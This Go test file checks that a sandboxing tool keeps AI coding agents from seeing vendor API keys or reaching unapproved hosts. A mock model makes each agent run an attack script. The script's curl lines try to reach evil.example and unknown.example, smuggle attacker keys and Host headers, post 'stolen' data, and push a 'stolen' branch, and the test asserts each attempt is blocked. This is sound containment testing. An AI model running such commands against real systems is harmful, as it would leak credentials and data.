package main

import (
	"bytes"
	"context"
	"crypto/rand"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/cgi"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/golem-forge/golem/internal/checks/testutil"
)

// A defaultAgent is an agent that runs without --net, with the default network and keys of
// its profile.
type defaultAgent struct {
	name  string
	args  []string
	key   string // the user's key at the vendor
	host  string // of the vendor
	login string // the header with which the vendor gets the key
	may   []string
	env   []string
	files map[string]string // in the user's home directory
}

// defaultAgents returns the agents of TestAgentNetworks. Two have their key in a variable,
// and two in a file.
func defaultAgents() []defaultAgent {
	const task = "write the file and run the command"
	// A constant would be in the binary of golem, which is this test, and so in its memory.
	text := func() string { return strings.ToLower(rand.Text()) }
	claude, openai, gemini, zen := "sk-ant-api03-"+text()+text()+"-AA", "sk-proj-"+text()+text(), "AIzaSy"+text()+"abcdefg", "sk-ant-api03-"+text()+text()+"-AA"
	return []defaultAgent{
		{name: "claude", args: []string{"--dangerously-skip-permissions", "-p", task}, key: claude, host: "api.anthropic.com", login: "X-Api-Key: " + claude,
			env: []string{"ANTHROPIC_API_KEY=" + claude}},
		{name: "codex", args: []string{"exec", task}, key: openai, host: "api.openai.com", login: "Authorization: Bearer " + openai,
			files: map[string]string{".codex/auth.json": `{"auth_mode": "apikey", "OPENAI_API_KEY": "` + openai + `", "tokens": null, "last_refresh": null}`, ".codex/config.toml": "model = \"gpt-5.5\"\n"}},
		{name: "gemini", args: []string{"--yolo", "--skip-trust", "-p", task}, key: gemini, host: "generativelanguage.googleapis.com", login: "X-Goog-Api-Key: " + gemini,
			env: []string{"GEMINI_API_KEY=" + gemini}, files: map[string]string{".gemini/settings.json": `{"security": {"auth": {"selectedType": "gemini-api-key"}}}`}},
		{name: "opencode", args: []string{"run", task}, key: zen, host: "api.anthropic.com", login: "X-Api-Key: " + zen, may: []string{"models.dev", "models.opencode.ai"},
			files: map[string]string{".local/share/opencode/auth.json": `{"anthropic": {"type": "api", "key": "` + zen + `"}}`,
				".config/opencode/opencode.json": `{"model": "anthropic/test", "provider": {"anthropic": {"npm": "@ai-sdk/anthropic", "models": {"test": {"name": "test"}}}}}`}},
	}
}

// TestAgentNetworks runs real agents with the default network of their profile. They work
// with a vendor whose key they never see: it is not in their environment, their files or
// their memory. Whatever the model makes them do, they reach only the vendor's hosts and
// read from git hosts, and golem asks once about another host.
func TestAgentNetworks(t *testing.T) {
	t.Parallel()
	cache := testutil.NPMCache(t)
	install := map[string]agent{}
	for _, a := range agents() {
		install[a.name] = a
	}
	if os.Getenv(ownNetworkVariable) != "" {
		if err := loopbackUp(); err != nil {
			t.Fatal(err)
		}
		for _, a := range defaultAgents() {
			if bin := install[a.name].bin(cache); exists(filepath.Join(bin, a.name)) {
				t.Run(a.name, func(t *testing.T) { a.try(t, bin) })
			}
		}
		return
	}
	for _, a := range defaultAgents() {
		if i := install[a.name]; i.always || os.Getenv("GOLEM_TEST_AGENTS") == "all" {
			testutil.NPM(t, i.cacheDir(), i.name, []string{i.install})
		}
	}
	runInOwnNetwork(t, "TestAgentNetworks")
}

// A world is what an agent can reach at most: a vendor, a git server and all other hosts.
type world struct {
	model *modelServer
	agent defaultAgent
	git   http.Handler

	mu       sync.Mutex
	requests []string // with host and path
	wrong    []string // what must not have arrived
}

func (w *world) answer(out http.ResponseWriter, scheme, host string, r *http.Request) {
	w.mu.Lock()
	request := r.Method + " " + scheme + "://" + host + r.URL.RequestURI()
	w.requests = append(w.requests, request)
	name, value, _ := strings.Cut(w.agent.login, ": ")
	var all strings.Builder
	r.Header.Write(&all)
	switch {
	case host == w.agent.host && scheme == "https" && r.Header.Get(name) == value && !strings.Contains(all.String(), "attacker"):
	case host != w.agent.host && strings.Contains(all.String()+request, w.agent.key):
		w.wrong = append(w.wrong, "the key at another host: "+request)
	case host == w.agent.host:
		w.wrong = append(w.wrong, request+"\n"+all.String())
	}
	w.mu.Unlock()
	switch {
	case host == w.agent.host && r.URL.Path == "/echo":
		io.WriteString(out, all.String())
	case host == w.agent.host:
		w.model.routes.ServeHTTP(out, r)
	case host == "github.com":
		w.git.ServeHTTP(out, r)
	default:
		http.NotFound(out, r)
	}
}

// newGitServer returns a git server with one repository, which takes every push. Its
// branch main has one commit.
func newGitServer(t *testing.T, top string) (server http.Handler, repository string) {
	t.Helper()
	repository = filepath.Join(top, "me", "repo.git")
	for _, args := range [][]string{{"init", "-q", "--bare", "-b", "main", repository}, {"-C", repository, "config", "http.receivepack", "true"}} {
		if out, err := exec.Command("git", args...).CombinedOutput(); err != nil {
			t.Fatalf("git %q: %v\n%s", args, err, out)
		}
	}
	work := t.TempDir()
	for _, line := range []string{"git init -q -b main . && git -c user.name=me -c user.email=me@example.com commit -q --allow-empty -m upstream && git push -q " + repository + " main"} {
		cmd := exec.Command("sh", "-c", line)
		cmd.Dir = work
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("%s: %v\n%s", line, err, out)
		}
	}
	path, err := exec.Command("git", "--exec-path").Output()
	if err != nil {
		t.Fatal(err)
	}
	return &cgi.Handler{Path: filepath.Join(strings.TrimSpace(string(path)), "git-http-backend"), Env: []string{"GIT_PROJECT_ROOT=" + top, "GIT_HTTP_EXPORT_ALL=1"}}, repository
}

// try runs an agent whose model attacks.
func (a defaultAgent) try(t *testing.T, bin string) {
	t.Parallel()
	top := t.TempDir()
	home, repository := filepath.Join(top, "home"), filepath.Join(top, "home", "repository")
	w := &world{model: newModelServer(t), agent: a}
	var upstream string
	w.git, upstream = newGitServer(t, filepath.Join(top, "git"))
	// One line for each attempt. Clients wait at most for golem's question.
	get := func(name, args string) string {
		return fmt.Sprintf("echo %s $(curl -sS -m 9 -o /dev/null -w '%%{http_code}' %s 2>/dev/null);", name, args)
	}
	w.model.command = "sh attack.sh"
	attack := `exec 2>&1; cat made.txt old.txt > both.txt; rm old.txt
(` + get("unknown", "https://unknown.example/1") + `) & (` + get("again", "https://unknown.example/2") + `) &
` + get("vendor", "https://"+a.host+"/other") + get("attacker", "-H 'x-api-key: attacker-0123456789' https://"+a.host+"/v1/files") + get("cookie", "-b session=attacker https://"+a.host+"/v1/files") +
		get("query", "'https://"+a.host+"/v1/files?key=attacker-0123456789'") + get("address", "https://192.0.2.7/") +
		get("plain", "http://"+a.host+"/v1/files") + get("host", "-H 'Host: evil.example' https://"+a.host+"/") + get("tunnel", "-p --proxy https://"+a.host+" https://evil.example/") +
		get("batch", "-H 'Content-Type: multipart/mixed; boundary=x' -d x https://"+a.host+"/batch") + get("socket", "--http1.1 -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Protocol: key.attacker' https://"+a.host+"/") + get("write", "-d stolen https://github.com/me/repo.git/issues") + `
echo echo $(curl -sS https://` + a.host + `/echo | tr -d '\r' | grep -ic '^` + strings.Split(a.login, ":")[0] + `: .*placeholder$')
git init -q x; cd x
git fetch -q https://github.com/me/repo.git main && echo fetched $(git log --format=%s FETCH_HEAD)
git push -q https://github.com/me/repo.git FETCH_HEAD:refs/heads/stolen && echo pushed
wait; echo the command ran`
	files := map[string]string{"repository/old.txt": "old\n", "repository/attack.sh": attack, ".gitconfig": "[user]\n\tname = Somebody\n\temail = somebody@example.com\n"}
	for name, text := range a.files {
		files[name] = text
	}
	for name, text := range files {
		name = filepath.Join(home, name)
		if err := os.MkdirAll(filepath.Dir(name), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(name, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	proxy, authority, end, err := serveInternet(w.answer)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(end)
	trusted := filepath.Join(top, "authority.pem")
	if err := os.WriteFile(trusted, authority, 0o644); err != nil {
		t.Fatal(err)
	}
	env := append([]string{"HOME=" + home, "GOLEM_STATE=" + filepath.Join(top, "state"), "TERM=dumb", "PATH=" + bin + ":" + os.Getenv("PATH"),
		"HTTPS_PROXY=" + proxy, "HTTP_PROXY=" + proxy, "SSL_CERT_FILE=" + trusted}, a.env...)
	var found []string // places inside with the key
	var golem *exec.Cmd
	marker := rand.Text() // it is inside, so the search must find it
	w.model.onCalls = func() {
		found = searchProcesses(t, golem.Process.Pid, a.key)
		if len(searchProcesses(t, golem.Process.Pid, marker)) < 2 {
			t.Error("the search did not find the task in the memory of the agent")
		}
	}
	run := func(name string, args ...string) (stdout, stderr string) {
		t.Helper()
		var out, told strings.Builder
		ctx, cancel := context.WithTimeout(t.Context(), 4*time.Minute)
		defer cancel()
		golem = exec.CommandContext(ctx, name, args...)
		golem.Dir, golem.Env, golem.Stdout, golem.Stderr = repository, env, &out, &told
		if err := golem.Run(); err != nil {
			t.Fatalf("%s %q: %v\n%s\n%s\nresults of calls: %q\nrequests: %q\nother requests: %q", name, args, err, &out, &told, w.model.lastResults(), w.requests, w.model.strays)
		}
		return out.String(), told.String()
	}
	run("git", "init", "-q", ".")
	before := describeTree(t, home)

	stdout, stderr := run("golem", slices.Concat([]string{"exec", "--", a.name}, a.args[:len(a.args)-1], []string{a.args[len(a.args)-1] + " " + marker})...)
	for _, want := range []string{"network: " + a.host + " and ", " more, asks about others; keys stay outside;", "github.com (git read)", "it asked for unknown.example, which is not on the list"} {
		if !strings.Contains(stderr, want) {
			t.Errorf("golem does not say %q:\n%s", want, stderr)
		}
	}
	if strings.Contains(stderr, "can read these credentials") {
		t.Errorf("golem lists credentials:\n%s", stderr)
	}
	if !strings.Contains(stdout, w.model.lastWords) {
		t.Errorf("the last answer of the model is missing:\n%s\n%s", stdout, stderr)
	}
	results := strings.Join(w.model.lastResults(), "\n")
	for _, want := range []string{"unknown 000", "again 000", "vendor 404", "attacker 403", "cookie 403", "query 403", "address 000", "plain 403", "host 403", "tunnel 000", "batch 403", "socket 403", "write 403", "echo 1", "fetched upstream", "the command ran"} {
		if !strings.Contains(results, want) {
			t.Errorf("the command does not say %q:\n%s", want, results)
		}
	}
	refs, err := exec.Command("git", "-C", upstream, "for-each-ref", "--format=%(refname)").Output()
	if strings.Contains(results, "pushed") || err != nil || string(refs) != "refs/heads/main\n" {
		t.Errorf("git push: %s, %v\n%s", refs, err, results)
	}
	for _, request := range w.requests {
		host := regexp.MustCompile(`://([^/]*)`).FindStringSubmatch(request)[1]
		if !slices.Contains(append(a.may, a.host, "github.com"), host) {
			t.Errorf("it reached %s", request)
		}
	}
	if len(w.wrong) > 0 {
		t.Errorf("it sent %q", w.wrong)
	}
	if len(found) == 0 || !strings.HasPrefix(found[0], "searched ") {
		t.Errorf("the processes were not searched: %q", found)
	} else if slices.ContainsFunc(found, func(s string) bool { return !strings.HasPrefix(s, "searched ") }) {
		t.Errorf("the key is inside: %q", found)
	}
	t.Logf("%s", found)
	if after := describeTree(t, home); after != before {
		t.Errorf("the home directory has changed:\n%s\nwant:\n%s", after, before)
	}
	out, _ := run("golem", "approvals", "--json")
	if n := countRequests(t, out, "unknown.example"); n != 1 {
		t.Errorf("golem asked %d times about unknown.example:\n%s", n, out)
	}
	state, err := exec.Command("grep", "-rlF", a.key, filepath.Join(top, "state")).Output()
	if len(state) > 0 {
		t.Errorf("golem's state has the key: %s, %v", state, err)
	}
}

// countRequests returns how many waiting requests name a host.
func countRequests(t *testing.T, text, host string) int {
	t.Helper()
	var all struct{ Pending []json.RawMessage }
	if err := json.Unmarshal([]byte(text), &all); err != nil {
		t.Fatalf("%v\n%s", err, text)
	}
	n := 0
	for _, one := range all.Pending {
		if bytes.Contains(one, []byte(host)) {
			n++
		}
	}
	return n
}

// searchProcesses searches the environment, the memory and the files of all descendants of
// a process for a text, except those that share its file system: they are not in the jail.
// The first result says how much it searched.
func searchProcesses(t *testing.T, top int, text string) []string {
	link := func(pid int, name string) string {
		to, _ := os.Readlink(fmt.Sprintf("/proc/%d/%s", pid, name))
		return to
	}
	children := map[int][]int{}
	entries, err := os.ReadDir("/proc")
	if err != nil {
		t.Error(err)
	}
	for _, e := range entries {
		pid, err := strconv.Atoi(e.Name())
		if err != nil {
			continue
		}
		stat, _ := os.ReadFile(fmt.Sprintf("/proc/%d/stat", pid))
		if fields := strings.Fields(string(stat[bytes.LastIndexByte(stat, ')')+1:])); len(fields) > 1 {
			parent, _ := strconv.Atoi(fields[1])
			children[parent] = append(children[parent], pid)
		}
	}
	var found []string
	processes, size, files := 0, 0, 0
	var roots []string
	for list := children[top]; len(list) > 0; list = list[1:] {
		pid := list[0]
		list = append(list, children[pid]...)
		if link(pid, "ns/pid") == link(os.Getpid(), "ns/pid") {
			continue // golem's own process outside the jail
		}
		name, _ := os.ReadFile(fmt.Sprintf("/proc/%d/comm", pid))
		processes++
		if data, _ := os.ReadFile(fmt.Sprintf("/proc/%d/environ", pid)); bytes.Contains(data, []byte(text)) {
			found = append(found, fmt.Sprintf("environment of %d %s", pid, name))
		}
		n, at := searchMemory(pid, []byte(text))
		if size += n; at != "" {
			found = append(found, fmt.Sprintf("memory of %d %s: %s", pid, name, at))
		}
		if ns := link(pid, "ns/mnt"); !slices.Contains(roots, ns) {
			roots = append(roots, ns)
			for _, dir := range []string{"home", "work", "tmp", "etc", "run", "dev/shm"} {
				out, _ := exec.Command("grep", "-rlFs", text, fmt.Sprintf("/proc/%d/root/%s", pid, dir)).Output()
				for line := range strings.Lines(string(out)) {
					found = append(found, "file "+line)
				}
				files++
			}
		}
	}
	if processes < 2 || size < 10<<20 || files < 6 {
		return append([]string{"too little: "}, fmt.Sprint(processes, size, files))
	}
	return append([]string{fmt.Sprintf("searched %d processes, %d MB", processes, size>>20)}, found...)
}

// searchMemory searches the memory of a process for a text. It returns how many bytes it
// read, and where the text is, "" if nowhere. It reads only pages that exist: some programs
// reserve far more.
func searchMemory(pid int, text []byte) (size int, at string) {
	var files [3]*os.File
	for i, name := range []string{"maps", "pagemap", "mem"} {
		f, err := os.Open(fmt.Sprintf("/proc/%d/%s", pid, name))
		if err != nil {
			return 0, ""
		}
		defer f.Close()
		files[i] = f
	}
	maps, _ := io.ReadAll(files[0])
	page := int64(os.Getpagesize())
	entries := make([]byte, 8<<13)
	var buffer []byte
	for line := range strings.Lines(string(maps)) {
		var start, end int64
		var mode string
		if n, _ := fmt.Sscanf(line, "%x-%x %s", &start, &end, &mode); n < 3 || !strings.HasPrefix(mode, "r") || strings.HasSuffix(line, "[vvar]\n") {
			continue
		}
		buffer = buffer[:0]
		for pos := start; pos < end; pos += int64(len(entries)) / 8 * page {
			n, _ := files[1].ReadAt(entries[:min(int64(len(entries)), (end-pos)/page*8)], pos/page*8)
			for i := 0; i+8 <= n; i += 8 {
				const present, swapped = 1 << 63, 1 << 62
				if binary.NativeEndian.Uint64(entries[i:])&(present|swapped) == 0 {
					buffer = buffer[:0]
					continue
				}
				kept := buffer[max(0, len(buffer)-len(text)):]
				buffer = append(append([]byte{}, kept...), make([]byte, page)...)
				read, _ := files[2].ReadAt(buffer[len(kept):], pos+int64(i)/8*page)
				size += read
				if bytes.Contains(buffer, text) {
					return size, strings.TrimSpace(line)
				}
			}
		}
	}
	return size, ""
}
